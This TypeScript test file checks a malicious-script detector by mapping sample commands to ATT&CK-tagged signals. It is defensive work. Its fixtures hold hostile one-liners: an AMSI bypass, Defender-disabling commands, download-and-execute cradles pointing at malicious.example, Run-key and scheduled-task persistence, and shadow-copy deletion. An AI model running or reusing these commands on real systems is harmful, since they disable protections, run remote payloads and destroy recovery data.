import { MITRE_BY_ID } from '../signals/mitre';
import { SIGNAL_BY_ID } from '../signals/catalogue';
import { SCRIPT_SIGNALS } from '../signals/definitions/scripts';
import { staticSignals } from './indicators';
import { deobfuscate, LayerSet } from './layers';
import { ScriptLanguage } from './text';

/** Static signals read from the layers: what fires, on what, with which evidence, and what does not. */

const signalsOf = (text: string, language: ScriptLanguage) => {
  const set = new LayerSet();
  deobfuscate(set, set.root(text, language), Date.now() + 10_000);
  return staticSignals(set);
};
const idsOf = (text: string, language: ScriptLanguage) => signalsOf(text, language).map((s) => s.id).sort();

describe('script signals', () => {
  it('are all in the catalogue, named script.*, with known ATT&CK techniques', () => {
    for (const s of SCRIPT_SIGNALS) {
      expect(s.id.startsWith('script.')).toBe(true);
      expect(SIGNAL_BY_ID.get(s.id)).toBe(s);
      for (const t of s.mitre) expect(MITRE_BY_ID.has(t)).toBe(true);
    }
  });

  it.each<[string, ScriptLanguage, string[]]>([
    ['[Ref].Assembly.GetType(\'System.Management.Automation.AmsiUtils\').GetField(\'amsiInitFailed\',\'NonPublic,Static\').SetValue($null,$true)', 'powershell', ['script.amsi_bypass']],
    ['Add-MpPreference -ExclusionPath "C:\\ProgramData" -Force', 'powershell', ['script.defender_tampering']],
    ['Set-MpPreference -DisableRealtimeMonitoring $true', 'powershell', ['script.defender_tampering']],
    ['iwr http://malicious.example/a.ps1 -UseBasicParsing | iex', 'powershell', ['script.execute_downloaded']],
    ["$c = New-Object Net.WebClient; $c.DownloadFile('http://malicious.example/a.exe', \"$env:TEMP\\a.exe\"); Start-Process \"$env:TEMP\\a.exe\"", 'powershell', ['script.download_cradle', 'script.download_execute']],
    ['bitsadmin /transfer j /download /priority high http://malicious.example/b.exe %TEMP%\\b.exe & start %TEMP%\\b.exe', 'batch', ['script.download_cradle', 'script.download_execute']],
    ['certutil -urlcache -split -f http://malicious.example/c.txt c.exe && c.exe', 'batch', ['script.download_cradle', 'script.download_execute']],
    ['curl -fsSL http://malicious.example/i.sh | sh', 'shell', ['script.download_cradle']],
    ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d "C:\\Users\\Public\\u.exe" /f', 'batch', ['script.persistence.run_key']],
    ['schtasks /create /sc minute /mo 15 /tn Updater /tr "C:\\Users\\Public\\u.exe"', 'batch', ['script.persistence.scheduled_task']],
    ['copy u.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.exe"', 'batch', ['script.persistence.startup_folder']],
    ['mshta http://malicious.example/x.hta', 'batch', ['script.proxy_execution']],
    ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', 'batch', ['script.proxy_execution']],
    ['regsvr32 /s /n /u /i:http://malicious.example/x.sct scrobj.dll', 'batch', ['script.proxy_execution']],
    ['vssadmin delete shadows /all /quiet', 'batch', ['script.inhibit_recovery']],
    ['powershell -ExecutionPolicy Bypass -File setup.ps1', 'batch', ['script.execution_policy_bypass']],
    ['Start-Process notepad.exe -WindowStyle Hidden', 'powershell', ['script.hidden_window']],
  ])('%s → %j', (text, language, expected) => {
    expect(idsOf(text, language)).toEqual([...expected].sort());
  });

  it('names the ATT&CK sub-technique of each proxy binary on its hit', () => {
    expect(signalsOf('mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")(window.close)', 'batch').find((s) => s.id === 'script.proxy_execution')!.mitre).toEqual(['T1218.005']);
    expect(signalsOf('rundll32 C:\\Users\\Public\\x.dat,DllMain', 'batch').find((s) => s.id === 'script.proxy_execution')!.mitre).toEqual(['T1218.011']);
    expect(signalsOf('regsvr32 /s /i:http://malicious.example/x.sct scrobj.dll', 'batch').find((s) => s.id === 'script.proxy_execution')!.mitre).toEqual(['T1218.010']);
  });

  it('reads window styles precisely: Run(cmd, 0) is hidden, Run(cmd, 1, false) is not', () => {
    expect(idsOf('var sh = new ActiveXObject("WScript.Shell"); sh.Run("cmd /c echo a, b", 0, false);', 'javascript')).toEqual(['script.hidden_window', 'script.shell_execution']);
    expect(idsOf('var sh = new ActiveXObject("WScript.Shell"); sh.Run("notepad.exe", 1, false);', 'javascript')).toEqual(['script.shell_execution']);
  });

  it.each<[string, ScriptLanguage, string]>([
    ['Invoke-WebRequest https://example.org/report.csv -OutFile report.csv; Import-Csv report.csv | Format-Table', 'powershell', 'a download that is not run'],
    ['Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run | Format-List', 'powershell', 'reading the Run key'],
    ['rundll32.exe printui.dll,PrintUIEntry /in /n "\\\\srv\\printer"', 'batch', 'an administrator installing a printer'],
    ['$cmd = "Get-Date"; Invoke-Expression $cmd', 'powershell', 'Invoke-Expression in a clear-text script'],
    ['net use Z: \\\\fileserver\\share\r\nxcopy /s /y C:\\Reports Z:\\Reports\r\n', 'batch', 'a copy job'],
  ])('no signal on %s (%s)', (text, language) => {
    expect(idsOf(text, language)).toEqual([]);
  });

  it('flags heavy obfuscation with its reason', () => {
    const url = 'http://malicious.example/payload.exe';
    const vbs = `x = ${[...url.repeat(3)].map((c) => `Chr(${c.charCodeAt(0)})`).join(' & ')}`;
    const hit = signalsOf(vbs, 'vbscript').find((s) => s.id === 'script.obfuscation')!;
    expect(hit.evidence).toEqual(['109 obfuscated expressions rewritten (chr ×108, concatenation ×1)', '108 characters written as character codes or escapes (72% of the text)']);
  });
});

describe('hostile input stays fast (linear scans, bounded work)', () => {
  const N = 50_000;
  it.each<[string, ScriptLanguage, string]>([
    ['unterminated PowerShell strings', 'powershell', '"`'.repeat(N)],
    ['doubled quotes', 'powershell', "'\x01''".repeat(N)],
    ['open char-code lists', 'javascript', 'String.fromCharCode(' + '1 , '.repeat(N)],
    ['script tags without ends', 'html', '<script '.repeat(N)],
    ['event handlers without ends', 'html', '<a on'.repeat(N)],
    ['many variables', 'powershell', Array.from({ length: N / 5 }, (_, i) => `$v${i} = 'x'\n`).join('') + '$v1 '.repeat(N / 5)],
    ['many VBScript variables', 'vbscript', Array.from({ length: N / 5 }, (_, i) => `v${i} = "x"\n`).join('') + 'v1 '.repeat(N / 5)],
    ['batch substrings', 'batch', '%a:~'.repeat(N)],
    ['download words', 'batch', 'bitsadmin certutil schtasks regsvr32 '.repeat(N / 4)],
  ])('%s', (_name, language, text) => {
    const started = Date.now();
    signalsOf(text, language);
    expect(Date.now() - started).toBeLessThan(5000);
  });
});
